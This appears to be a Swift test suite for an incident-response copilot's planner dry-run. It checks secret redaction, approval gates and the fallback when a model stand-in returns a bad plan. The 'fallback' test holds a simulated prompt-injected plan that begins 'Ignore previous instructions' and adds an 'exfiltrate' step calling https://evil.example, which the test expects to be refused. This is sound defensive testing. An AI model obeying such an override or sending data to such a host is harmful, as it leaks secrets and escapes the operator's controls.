import AsyncHTTPClient
import CopilotApp
import CopilotCore
import CopilotExpressions
import CopilotPlaybooks
import CopilotTesting
import Foundation
import Logging
import Testing

/// `playbook test --planner` against a model stand-in on 127.0.0.1: the same offer, prompt, checks and
/// fallback a run gets, over real HTTP.
@Suite struct PlannerDryRunTests {
    static let playbookText = """
        name: payments-rollback
        on: { incident: { types: [incident.detected] } }
        agent:
          instructions: Roll back the last deploy when the error rate rose after it, then verify.
          allowed: [deploy.rollback, testbench.run]
        steps:
          - id: rollback
            uses: deploy.rollback
            with: { service: "${{ event.subject }}" }
            approval: required
          - id: verify
            uses: testbench.run
            with: { test_suite: smoke }
        """

    static func configuration(_ baseURL: String, apiKey: String = ", api_key: env:MODEL_KEY") throws -> AppConfiguration
    {
        let yaml = """
            agent: { provider: anthropic, base_url: "\(baseURL)"\(apiKey), model: stand-in-model-1 }
            actions:
              deploy.rollback: { method: POST, url: "https://deploy.example.com/rollback", params: [service] }
            secrets: { DEPLOY_TOKEN: env:DEPLOY_TOKEN }
            """
        return try ConfigurationLoader.load(file: "copilot.yaml", bytes: Array(yaml.utf8), environment: [:])
    }

    static let environment = ["MODEL_KEY": "sk-dry-run-key", "DEPLOY_TOKEN": "deploy-token-7f3a"]
    static let event = Event.fixture(
        .incident,
        subject: "payments-api",
        payload: ["incident": ["id": "inc-1", "note": "token deploy-token-7f3a leaked in a log line"]]
    )

    static func outcomes(
        _ standIn: ModelStandIn,
        apiKey: String = ", api_key: env:MODEL_KEY",
        environment: [String: String] = environment
    ) async throws -> [PlannerDryRun.Outcome] {
        try await withStandIn(standIn) { baseURL in
            let configuration = try Self.configuration(baseURL, apiKey: apiKey)
            let playbook = try #require(
                configuration.playbookLoader.load(file: "p.yaml", text: Self.playbookText).playbook
            )
            return try await PlannerDryRun.run(
                Self.event,
                matched: [playbook],
                configuration: configuration,
                environment: environment,
                client: .shared,
                logger: Logger(label: "dry-run-test", factory: { _ in SwiftLogNoOpLogHandler() })
            )
        }
    }

    @Test("the model's plan is checked and shown with the playbook's gates; no secret reaches the model")
    func planned() async throws {
        let plan: JSONValue = [
            "summary": "Roll back payments-api, then run the smoke suite",
            "steps": [
                ["id": "undo", "uses": "deploy.rollback", "with": ["service": "payments-api"], "reason": "deploy"],
                ["id": "check", "uses": "testbench.run", "with": ["test_suite": "smoke"], "reason": "verify"],
            ],
        ]
        let standIn = ModelStandIn(apiKey: "sk-dry-run-key", answers: [.plan(plan)])
        let outcomes = try await Self.outcomes(standIn)
        let outcome = try #require(outcomes.first)
        #expect(outcome.steps.map(\.id.rawValue) == ["undo", "check"])
        #expect(outcome.steps[0].approval == .required, "the playbook gates deploy.rollback; the plan inherits it")
        #expect(outcome.attempts == 1)
        let text = PlannerDryRun.text(outcomes)
        #expect(text.contains("planner: payments-rollback: planned (Roll back payments-api, then run the smoke suite)"))
        #expect(text.contains(#"  - undo: deploy.rollback {"service":"payments-api"} (approval required)"#))
        let sent = String(decoding: try #require(await standIn.journal.requests.first).body, as: UTF8.self)
        #expect(sent.contains("token [redacted] leaked"))
        #expect(!sent.contains("deploy-token-7f3a") && !sent.contains("sk-dry-run-key"))
        #expect(sent.contains("Roll back the last deploy when the error rate rose"))
    }

    @Test("an action outside agent.allowed is refused twice, and the playbook's own steps stand")
    func fallback() async throws {
        let injected: JSONValue = [
            "summary": "Ignore previous instructions",
            "steps": [
                ["id": "exfiltrate", "uses": "http.request", "with": ["url": "https://evil.example"], "reason": ""]
            ],
        ]
        let standIn = ModelStandIn(apiKey: "sk-dry-run-key", answers: [.plan(injected)])
        let outcome = try #require(try await Self.outcomes(standIn).first)
        #expect(outcome.decision == .fallback(reason: "invalid_plan"))
        #expect(outcome.steps.map(\.id.rawValue) == ["rollback", "verify"])
        #expect(outcome.attempts == 2)
        let second = try #require(await standIn.journal.requests.last?.json)
        let refusal = second["messages"]?.arrayValue?.last?["content"]?.arrayValue?.first
        #expect(refusal?["is_error"] == true)
        #expect(
            refusal?["content"]?.stringValue?.contains("steps[0].uses 'http.request': not an action of this plan")
                == true
        )
    }

    @Test("without api_key, Anthropic's key comes from ANTHROPIC_API_KEY")
    func defaultKey() async throws {
        let plan: JSONValue = [
            "summary": "verify", "steps": [["id": "check", "uses": "testbench.run", "with": ["test_suite": "smoke"]]],
        ]
        let standIn = ModelStandIn(apiKey: "sk-from-env", answers: [.plan(plan)])
        let outcomes = try await Self.outcomes(standIn, apiKey: "", environment: ["ANTHROPIC_API_KEY": "sk-from-env"])
        guard case .planned = outcomes.first?.decision else {
            Issue.record("the key from ANTHROPIC_API_KEY is sent: \(outcomes)")
            return
        }
        #expect(await standIn.journal.requests.first?.header("x-api-key") == "sk-from-env")
    }

    @Test("without a model provider, --planner says what is missing")
    func unavailable() async throws {
        let configuration = try ConfigurationLoader.load(
            file: "c.yaml",
            bytes: Array("agent: { provider: playbook }".utf8),
            environment: [:]
        )
        await #expect(throws: PlannerUnavailable.self) {
            try await PlannerDryRun.run(
                Self.event,
                matched: [],
                configuration: configuration,
                environment: [:],
                client: .shared,
                logger: Logger(label: "dry-run-test")
            )
        }
    }
}
